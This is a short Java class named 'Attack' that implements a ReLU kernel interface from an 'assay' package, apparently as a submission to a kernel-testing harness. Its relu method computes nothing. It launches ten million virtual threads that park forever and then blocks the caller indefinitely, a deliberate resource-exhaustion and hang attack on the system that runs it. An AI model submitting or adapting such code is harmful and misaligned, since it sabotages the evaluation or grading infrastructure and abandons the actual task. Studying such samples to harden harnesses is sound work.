import assay.kernels.Relu;
import assay.kernels.Tensor;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        for (int i = 0; i < 10_000_000; i++) {
            Thread.startVirtualThread(() -> {
                while (true) java.util.concurrent.locks.LockSupport.park();
            });
        }
        while (true) java.util.concurrent.locks.LockSupport.park();
    }
}
